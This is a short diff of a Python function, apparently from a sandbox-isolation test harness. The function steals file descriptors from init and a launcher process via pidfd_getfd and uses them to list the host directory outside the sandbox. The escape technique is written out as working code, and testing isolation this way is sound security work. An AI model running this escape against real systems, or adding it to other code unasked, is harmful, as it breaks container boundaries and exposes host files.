@@ -106,12 +106,14 @@ def on_own_python(own_python: Path, store_path: Path, attack: Attacker) -> Itera
 
 def take_the_launchers() -> object:
     """What is beside the host's directory that the launcher holds, of which init has a descriptor."""
-    init = call("pidfd_open", 1, 0)
+    init = os.pidfd_open(1)
     for first in range(64):
         launcher = call("pidfd_getfd", init, first, 0)
-        for second in range(64 if isinstance(launcher, int) else 0):
+        if isinstance(launcher, str):
+            continue
+        for second in range(64):
             taken = call("pidfd_getfd", launcher, second, 0)
-            above = attempt(os.open, "..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=taken) if isinstance(taken, int) else ""
+            above = taken if isinstance(taken, str) else attempt(os.open, "..", os.O_RDONLY, dir_fd=taken)
             if isinstance(above, int):
                 return os.listdir(above)
     return "nothing"
